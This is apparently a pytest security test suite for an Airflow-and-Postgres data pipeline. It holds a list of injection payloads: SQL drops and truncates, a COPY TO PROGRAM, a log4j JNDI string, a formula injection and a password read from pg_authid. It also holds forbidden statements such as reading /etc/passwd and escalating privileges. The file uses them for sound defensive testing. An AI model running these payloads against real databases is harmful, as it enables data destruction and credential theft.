"""Security: injection payloads are stored as data, analysts are let in only where they belong, and
connection passwords never reach a task log.

- Every string field of every feed's answers carries an SQL-injection (or COPY, placeholder,
  formula, script) payload, one record per field, served over HTTP by a proxy in front of feedsim;
  the DAGs run for real. Every value the parser staged must be stored exactly as received (in
  core, or in quarantine when it broke a code), and nothing else may change.
- Every analyst role (the group and each county's role, through a login) is denied every table of
  raw, staging, quarantine and audit, every write to core and mart, DDL, role changes and the
  server's files and programs; each county's login sees only its own county's restricted rows.
- The warehouse's and an upstream's passwords appear in no task log, whether the run succeeds or fails.
"""

from __future__ import annotations

import itertools
import logging
import os
from pathlib import Path

import psycopg
import pytest
from psycopg import sql
from reliability_support import (
    TARGETS,
    MutatingProxy,
    Target,
    batches_since,
    check_invariants,
    inject_into_every_field,
    is_data_answer,
    last_batch_id,
    load_dag,
    outcome_problems,
    point_upstreams_at,
    staged_values,
    stored_strings,
)

pytestmark = pytest.mark.e2e

MARKER = "VGLDSQL"
CANARY_FILE = Path("/tmp/vagled-injection-canary")
PAYLOADS = (
    "'; drop table core.job_ad; --",
    "' or '1'='1",
    '"; drop schema core cascade; --',
    "'); delete from audit.load_batch; --",
    "$$; truncate raw.landed_payload; $$",
    f"'; copy (select 1) to program 'touch {CANARY_FILE}'; --",
    "1; select pg_sleep(30); --",
    "%(batch_id)s %s {table}",
    "\\. \\N",
    "a\tb",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "'||(select rolpassword from pg_authid limit 1)||'",
)
# Uppsala's CSV (Hallsberg's XLSX is binary: the fuzzing tests cover spreadsheets).
INJECTION_TARGETS = [
    t if t.dag_id != "municipality_files" else Target(t.dag_id, {**t.conf, "municipalities": ["0380"]}) for t in TARGETS
]


def _catalog(conn) -> set[tuple]:
    return set(
        conn.execute(
            "select n.nspname, c.relname, c.relkind from pg_class c join pg_namespace n on n.oid = c.relnamespace"
            " where n.nspname in ('raw', 'staging', 'quarantine', 'core', 'mart', 'audit', 'public')"
        ).fetchall()
    )


def _roles(conn) -> set[tuple]:
    return set(conn.execute("select rolname, rolsuper, rolcreaterole, rolbypassrls from pg_roles").fetchall())


@pytest.mark.parametrize("target", INJECTION_TARGETS, ids=str)
def test_injection_payloads_in_every_string_field_are_stored_as_data(
    target, feedsim, isolated_warehouse, wh, monkeypatch, tally
):
    CANARY_FILE.unlink(missing_ok=True)
    catalog, roles = _catalog(wh), _roles(wh)
    raw_before = wh.execute("select count(*) from raw.landed_payload").fetchone()[0]
    counter = itertools.count()

    def with_payload(field: str, old: str) -> str:
        n = next(counter)
        return f"{old} {MARKER}{n:04d} {PAYLOADS[n % len(PAYLOADS)]}"

    def mutate(method: str, path: str, content_type: str, body: bytes) -> bytes:
        return inject_into_every_field(content_type, body, with_payload) if is_data_answer(method, path) else body

    since = last_batch_id(wh)
    with MutatingProxy(feedsim.port, mutate) as proxy:
        point_upstreams_at(proxy, monkeypatch)
        run = load_dag(target.dag_id).test(run_conf=target.conf)
    injected = next(counter)
    tally.bad_inputs(injected)
    assert injected > 0, "the proxy injected payloads"
    batches = batches_since(wh, since)
    # A payload that breaks a code or a number is held, not run: publish decides each batch as usual.
    assert batches and outcome_problems(batches, run.state) == [], batches
    assert all(b["status"] not in ("running", "staged") for b in batches), batches

    expected = staged_values(wh, since, MARKER)
    stored = stored_strings(wh, MARKER)
    assert expected, "payloads reached the staged columns"
    missing = expected - stored
    tally.lost(len(missing), f"injection payloads in {target}")
    assert not missing, sorted(missing)[:5]
    # nothing ran: no object, role or file appeared or went, raw kept growing only
    assert _catalog(wh) == catalog and _roles(wh) == roles
    assert not CANARY_FILE.exists()
    assert wh.execute("select count(*) from raw.landed_payload").fetchone()[0] > raw_before
    findings = check_invariants(wh, since=since)
    assert not findings.violations, findings.violations


# -- analysts -------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def restricted_rows(isolated_warehouse, feedsim):
    """Two counties' own files (Uppsala 0380, Västmanland 1980) loaded into the module's warehouse."""
    from vagled.pipeline import tasks

    with pytest.MonkeyPatch.context() as patch:
        point_upstreams_at(feedsim, patch)
        for code in ("0380", "1980"):
            extracted = tasks.extract_partition(
                ("municipal_komvux", "municipal_programmes"),
                code,
                data_interval_start=None,
                data_interval_end=None,
                params={"period_start": "2026-09-01", "period_end": "2026-10-01"},
                run_id="security",
            )
            tasks.publish_partition(tasks.stage_partition(extracted))
    with isolated_warehouse.connect() as conn:
        from vagled.marts import refresh_marts

        refresh_marts(conn)
        return {
            table: dict(
                conn.execute(
                    sql.SQL("select left(municipality_code, 2), count(*) from core.{} group by 1").format(
                        sql.Identifier(table)
                    )
                ).fetchall()
            )
            for table in ("adult_education_enrolment", "labour_market_programme")
        }


@pytest.fixture(scope="module")
def analyst_logins(isolated_warehouse, embedded_warehouse, restricted_rows):
    """A login per county role, and one in the analyst group alone: {role: conninfo}."""
    from vagled.config import area_county_codes, county_role_name

    logins: dict[str, str] = {}
    with psycopg.connect(embedded_warehouse.admin_conninfo(), autocommit=True) as admin:
        for role in ("analyst", *(county_role_name(c) for c in area_county_codes())):
            login, password = f"rel_{role}", f"pw-{role}-{os.getpid()}"
            admin.execute(sql.SQL("drop role if exists {}").format(sql.Identifier(login)))
            admin.execute(
                sql.SQL("create role {} login password {} in role {}").format(
                    sql.Identifier(login), sql.Literal(password), sql.Identifier(role)
                )
            )
            logins[role] = (
                f"host=127.0.0.1 port={embedded_warehouse.port} dbname={isolated_warehouse.name}"
                f" user={login} password={password}"
            )
    yield logins
    with psycopg.connect(embedded_warehouse.admin_conninfo(), autocommit=True) as admin:
        for role in logins:
            admin.execute(sql.SQL("drop role if exists {}").format(sql.Identifier(f"rel_{role}")))


def _forbidden_statements(conn) -> list[str]:
    """Every statement an analyst must be refused, built from the warehouse's own catalog."""
    relations = conn.execute(
        "select n.nspname, c.relname, c.relkind from pg_class c join pg_namespace n on n.oid = c.relnamespace"
        " where n.nspname in ('raw', 'staging', 'quarantine', 'audit', 'core', 'mart') and c.relkind in ('r', 'v', 'm')"
        " order by 1, 2"
    ).fetchall()
    statements = []
    for schema, name, kind in relations:
        table = f"{schema}.{name}"
        if schema in ("raw", "staging", "quarantine", "audit"):
            statements.append(f"select * from {table} limit 1")
        if kind == "r":
            statements += [
                f"insert into {table} default values",
                f"update {table} set {_first_column(conn, schema, name)} = null",
                f"delete from {table}",
                f"truncate {table}",
                f"alter table {table} add column intruder int",
                f"drop table {table}",
            ]
        elif kind == "m":
            statements += [f"refresh materialized view {table}", f"drop materialized view {table}"]
    for schema in ("raw", "staging", "quarantine", "audit", "core", "mart", "public"):
        statements += [f"create table {schema}.intruder (x int)", f"create view {schema}.intruder as select 1"]
    statements += [
        "create schema intruder",
        "create function public.intruder() returns int language sql as 'select 1'",
        "create role intruder",
        "alter role current_user superuser",
        "alter role current_user createrole",
        "alter role current_user bypassrls",
        "grant vagled_loader to current_user",
        "grant analyst_04 to current_user",
        "set role vagled_loader",
        "set role postgres",
        "set session authorization vagled_loader",
        "alter table core.adult_education_enrolment disable row level security",
        "drop policy adult_education_enrolment_own_county on core.adult_education_enrolment",
        "select pg_read_file('/etc/passwd')",
        "select pg_ls_dir('.')",
        "copy (select 1) to program 'true'",
        "copy core.county to '/tmp/vagled-analyst-copy'",
        "select lo_import('/etc/passwd')",
        "select pg_terminate_backend(pid) from pg_stat_activity where usename = 'vagled_loader'",
        "select rolpassword from pg_authid",
    ]
    return statements


def _first_column(conn, schema: str, table: str) -> str:
    return conn.execute(
        "select quote_ident(column_name) from information_schema.columns"
        " where table_schema = %s and table_name = %s and is_identity = 'NO' and is_generated = 'NEVER'"
        " order by ordinal_position limit 1",
        (schema, table),
    ).fetchone()[0]


def test_every_analyst_role_is_denied_everything_but_reading_core_and_mart(analyst_logins, wh, tally):
    statements = _forbidden_statements(wh)
    assert len(statements) > 100
    mart_rows = wh.execute("select count(*) from mart.jobseekers_monthly").fetchone()[0]
    allowed: list[str] = []
    for role, conninfo in analyst_logins.items():
        with psycopg.connect(conninfo, autocommit=True) as conn:
            for statement in statements:
                try:
                    cursor = conn.execute(statement)
                    if statement.startswith("select pg_terminate_backend") and not any(r[0] for r in cursor):
                        tally.access(f"{role}: {statement}", allowed=False)  # nothing of the loader's was hit
                        continue
                except psycopg.errors.InsufficientPrivilege:
                    tally.access(f"{role}: {statement}", allowed=False)
                    continue
                tally.access(f"{role}: {statement}", allowed=True)
                allowed.append(f"{role}: {statement}")
            # and what they are for still works
            assert conn.execute("select count(*) from core.municipality").fetchone()[0] == 290
            assert conn.execute("select count(*) from mart.jobseekers_monthly").fetchone()[0] == mart_rows
    assert allowed == []


def test_each_county_reads_only_its_own_restricted_rows(analyst_logins, restricted_rows, tally):
    assert restricted_rows["adult_education_enrolment"].keys() == {"03", "19"}
    for role, conninfo in analyst_logins.items():
        own = role.removeprefix("analyst_") if role != "analyst" else None
        with psycopg.connect(conninfo, autocommit=True) as conn:
            for table, rows in restricted_rows.items():
                seen = dict(
                    conn.execute(
                        sql.SQL("select left(municipality_code, 2), count(*) from core.{} group by 1").format(
                            sql.Identifier(table)
                        )
                    ).fetchall()
                )
                for county in rows:
                    if county != own:
                        tally.access(f"{role} reading {county}'s {table}", allowed=county in seen)
                assert set(seen) <= ({own} if own else set()), (role, table, seen)
                if own in rows:
                    assert seen[own] == rows[own], "a county sees all of its own rows"
            # switching row security off is refused, not a way around it
            conn.execute("set row_security = off")
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                conn.execute("select count(*) from core.adult_education_enrolment")
            tally.access(f"{role} with row_security off", allowed=False)


# -- passwords in task logs --------------------------------------------------------------------------
UPSTREAM_PASSWORD = "Upstream-S3cret-9f2c"


@pytest.mark.parametrize("fault", [None, "truncated"], ids=["success", "failure"])
def test_connection_passwords_never_appear_in_task_logs(
    fault, feedsim_factory, isolated_warehouse, monkeypatch, capfd, caplog, tally
):
    from urllib.parse import unquote, urlsplit

    from vagled.config import vagled_home

    caplog.set_level(logging.DEBUG)
    warehouse_password = unquote(urlsplit(isolated_warehouse.url).password or "")
    assert len(warehouse_password) > 8
    sim = feedsim_factory(faults=[fault] if fault else [])
    point_upstreams_at(sim, monkeypatch)
    # an upstream that takes a login: the client must never print it
    monkeypatch.setenv(
        "AIRFLOW_CONN_AF_STATISTICS",
        f"http://svc-vagled:{UPSTREAM_PASSWORD}@127.0.0.1:{sim.port}/af_statistics",
    )
    logs_dir = vagled_home() / "airflow" / "logs"
    before = {p: p.stat().st_mtime for p in logs_dir.rglob("*") if p.is_file()} if logs_dir.exists() else {}
    run = load_dag(TARGETS[1].dag_id).test(run_conf=TARGETS[1].conf)
    assert run.state == ("failed" if fault else "success")

    captured = capfd.readouterr()
    texts = [captured.out, captured.err, caplog.text]
    written = [
        p
        for p in (logs_dir.rglob("*") if logs_dir.exists() else [])
        if p.is_file() and before.get(p) != p.stat().st_mtime
    ]
    texts += [p.read_text(errors="replace") for p in written]
    with isolated_warehouse.connect() as conn:
        texts += [e or "" for (e,) in conn.execute("select error from audit.load_batch")]
    assert sum(len(t) for t in texts) > 1000, "the run logged something"
    for secret in (warehouse_password, UPSTREAM_PASSWORD):
        leaks = [t[max(0, t.find(secret) - 80) : t.find(secret) + 40] for t in texts if secret in t]
        tally.access(f"a password in the logs of a run ({fault or 'success'})", allowed=bool(leaks))
        assert not leaks, leaks
